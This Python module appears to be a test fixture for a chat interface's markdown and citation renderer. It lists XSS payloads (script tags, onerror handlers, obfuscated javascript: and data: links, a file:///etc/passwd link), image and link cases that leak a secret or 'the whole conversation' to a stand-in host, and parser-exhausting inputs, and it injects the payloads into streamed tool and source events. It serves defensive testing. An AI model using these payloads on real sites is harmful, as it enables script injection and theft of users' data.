"""Answers that are made to do harm, by their case: their words must be there in the end all the same."""

import json
from typing import Any

IMAGE = "https://images.example/i.png?q=SECRET"
ANSWERS = {
    "86 script": "Before <script>window.harmed = 1</script> after.",
    "86 img onerror": "Before <img src=x onerror=window.harmed=1> after.",
    "86 svg onload": "Before <svg onload=window.harmed=1><a xlink:href=javascript:window.harmed=1> after.",
    "86 iframe srcdoc": "Before <iframe srcdoc='<script>parent.harmed=1</script>'></iframe> after.",
    "86 math": "Before <math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1> after.",
    "86 style": "Before <style>body{display:none}</style><p style='position:fixed'>after.",
    "86 javascript link": "Before [words](javascript:window.harmed=1) "
    "<a href=javascript:window.harmed=1>after</a>.",
    "86 hidden schemes": "Before [a](JaVaScRiPt:window.harmed=1) [b](&#106;avascript:window.harmed=1) "
    "[c](java&Tab;script:window.harmed=1) [d](<java\tscript:window.harmed=1>) "
    "[e](\x01javascript:harmed=1) after.",
    "86 data and vbscript": "Before [a](data:text/html,<script>window.harmed=1</script>) [b](vbscript:x) "
    "[c](data:text/html;base64,PHNjcmlwdD4=) [d](blob:https://x.example/1) [e](file:///etc/passwd) after.",
    "86 entities": "Before &lt;img src=x onerror=window.harmed=1&gt; &#60;script&#62;x&#60;/script&#62; "
    "after.",
    "87 autolinks": "Before <javascript:window.harmed=1> <data:text/html,x> "
    "www.images.example/?<script> after.",
    "87 reference": "Before [words][x] [x] ![i][x] after.\n\n[x]: javascript:window.harmed=1 'title\" "
    "onclick=\"x'\n",
    "87 footnote": "Before[^1] after.\n\n[^1]: <img src=x onerror=window.harmed=1>\n",
    "87 table": "Before\n\n| <img onerror=x src=x> | b |\n|---|---|\n| [a](javascript:x) | <td "
    "onclick=x> |\n\nafter.",
    "87 fence": 'Before\n\n```"><img/src=x/onerror=window.harmed=1>\ncode\n```\n\n~~~js" '
    'onclick="x\ncode\n~~~\n\nafter.',
    "87 formula": r"Before $\href{javascript:window.harmed=1}{x}$ $\htmlClass{a}{b} "
    r"\includegraphics{https://images.example}$ "
    r"$\url{javascript:x}$ after.",
    "87 diagram": 'Before\n\n```mermaid\nclick A href "javascript:window.harmed=1"\n```\n\nafter.',
    "88 image": f"Before ![x]({IMAGE}) after.",
    "88 reference image": f"Before ![x][i] after.\n\n[i]: {IMAGE}\n",
    "88 srcset": f"Before <img srcset='{IMAGE} 2x'> <video poster={IMAGE}> <link rel=prefetch "
    f"href={IMAGE}> after.",
    "88 style": f"Before <div style='background:url({IMAGE})'> <style>@import '{IMAGE}'</style> after.",
    "88 svg image": f"Before ![x](data:image/svg+xml,<svg><image href='{IMAGE}'/></svg>) "
    f"![y](//images.example/i.png) after.",
    "89 link with context": "Before [click here](https://images.example/?q=the+whole+conversation) after.",
    "89 another host in front": "Before [x](https://good.example@images.example/) "
    "[y](https://good.example%2f@images.example/) after.",
}

HEAVY = {
    "lists": "- " * 50_000,
    "lists inside lists": "".join("  " * n + "- x\n" for n in range(300)),
    "quotes": "> " * 50_000 + "x",
    "quote lines": ">" * 300 + " x\n" + "> y\n" * 300,
    "emphasis": "*a " * 33_000,
    "emphasis inside emphasis": "**a *b " * 14_000,
    "underscores": "_" * 100_000,
    "backticks": "`" * 100_000,
    "open code": "`a " * 33_000,
    "brackets": "[" * 100_000,
    "links": "[a](" * 25_000,
    "images": "![" * 50_000,
    "labels": "[a][b]" * 16_000,
    "formulas": "$a " * 33_000,
    "entities": "&" * 100_000,
    "tags": "<a " * 33_000,
    "backslashes": "\\" * 100_000,
    "pipes": "|" * 100_000,
    "table heads": "| a " * 20_000 + "|\n" + "|---" * 20_000 + "|\n",
    "one line": "word " * 20_000,
    "spaces": " " * 100_000 + "x",
    "tabs": "\t" * 50_000 + "x",
    "empty lines": "\n" * 100_000 + "x",
    "equals": "a\n" + "=" * 100_000,
    "definitions": "".join(f"[l{n}]: https://e.com/{n}\n" for n in range(1_000)),
}
"""Case 90: a hundred thousand letters of what costs most."""

HARM = "<img src=x onerror=window.harmed=1><script>window.harmed = 1</script>"


def poisoned(log: str) -> str:
    """The events of a cited answer, with `HARM` wherever they have words besides the answer's own: names of
    stages and of documents, a tool with all that it takes and gives, and the error it ends with."""
    events = [json.loads(line[6:]) for line in log.split("\n") if line.startswith("data: ")]
    turn = events[0]["turn_id"]
    told: list[dict[str, Any]] = []
    for event in events:
        if event["type"] == "stage.started":
            event["label"] = HARM
        if event["type"] == "sources.added":
            event["sources"] = [
                one | {"title": HARM, "filename": HARM, "text": HARM, "url": "javascript:window.harmed=1"}
                for one in event["sources"]
            ]
        if event["type"] == "text.started":
            call = {"tool_call_id": "call_1", "at": event["at"]}
            told += [
                call | {"type": "tool.started", "name": HARM},
                call | {"type": "tool.called", "name": HARM, "input": {HARM: HARM}},
                call | {"type": "tool.finished", "output": HARM},
            ]
        if event["type"] == "turn.finished":
            event |= {"status": "failed", "finish_reason": "error", "error": {"code": HARM, "message": HARM}}
        told.append(event)
    return "".join(
        f"id: {turn}/{n}\nevent: {event['type']}\ndata: {json.dumps(event | {'seq': n})}\n\n"
        for n, event in enumerate(told, 1)
    )
